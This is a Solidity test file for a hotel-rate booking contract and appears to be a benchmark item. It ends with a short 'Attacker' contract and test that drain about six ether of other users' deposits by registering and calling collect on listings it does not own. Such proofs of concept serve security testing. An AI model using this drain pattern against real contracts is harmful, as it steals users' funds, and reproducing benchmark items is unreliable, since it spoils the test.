pragma solidity 0.4.26;

import "./RoomRates.sol";

// assay-canary-04d0b6b0-5879-4cb1-847f-d57b23ccfc5d

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant HOST = address(0x4057);
    address private constant AGENT = address(0xA6E);
    address private constant ANA = address(0xA9A);

    RoomRates private desk;
    Attacker private mallory;

    function setUp() public {
        desk = new RoomRates();
        vm.startPrank(HOST);
        desk.register(AGENT, 1 ether);
        desk.register(AGENT, 2 ether);
        vm.stopPrank();
        vm.deal(ANA, 20 ether);
        vm.startPrank(ANA);
        desk.book.value(2 ether)(0, 2, 1 ether);
        desk.book.value(4 ether)(1, 2, 2 ether);
        vm.stopPrank();
        mallory = new Attacker(desk);
    }

    function test_Regular() public {
        vm.startPrank(HOST);
        desk.setAgent(0, ANA);
        desk.setRate(0, 3 ether);
        require(desk.collect(0) == 2 ether && HOST.balance == 2 ether);
        require(desk.register(AGENT, 1) == 2);
        vm.stopPrank();
        vm.startPrank(ANA);
        desk.book.value(3 ether)(0, 1, 5 ether);
        vm.stopPrank();
        vm.startPrank(HOST);
        require(desk.collect(0) == 3 ether);
        vm.stopPrank();
        vm.startPrank(AGENT);
        desk.setRate(1, 1 ether);
        require(desk.collect(1) == 4 ether && desk.mandates(AGENT) == 2);
        vm.stopPrank();
        require(address(desk).balance == 0);
    }

    function test_RefusesInput() public {
        vm.startPrank(HOST);
        vm.expectRevert("");
        desk.register(AGENT, 0);
        vm.expectRevert("");
        desk.setRate(0, 0);
        desk.collect(0);
        vm.expectRevert("");
        desk.collect(0);
        vm.stopPrank();
        vm.startPrank(ANA);
        vm.expectRevert("");
        desk.book.value(1 ether)(0, 1, 0.9 ether);
        vm.expectRevert("");
        desk.book.value(1 ether)(0, 2, 1 ether);
        vm.expectRevert("");
        desk.book(0, 0, 1 ether);
        vm.expectRevert("");
        desk.book.value(1 ether)(0, 2 ** 255 + 1, 2 ether);
        vm.expectRevert("");
        desk.setAgent(0, ANA);
        vm.expectRevert("");
        desk.setRate(0, 5);
        vm.expectRevert("");
        desk.collect(1);
        vm.stopPrank();
    }

    function test_RefusesMoreThanThereIs() public {
        vm.prank(HOST);
        desk.setRate(0, 2 ** 255);
        vm.deal(ANA, 2 ** 255);
        vm.prank(ANA);
        desk.book.value(2 ** 255)(0, 1, 2 ** 255);
        vm.deal(ANA, 2 ** 255);
        vm.prank(ANA);
        vm.expectRevert("");
        desk.book.value(2 ** 255)(0, 1, 2 ** 255);
    }

    function test_RefusesOverflow() public {
        vm.prank(HOST);
        desk.setRate(0, 2);
        vm.prank(ANA);
        vm.expectRevert("");
        desk.book.value(2)(0, 2 ** 255 + 1, 2);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 5.9 ether);
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    RoomRates private desk;

    function Attacker(RoomRates d) public {
        desk = d;
    }

    function() external payable {}

    function run() external {
        desk.register(address(this), 1);
        desk.collect(0);
        desk.collect(1);
    }
}
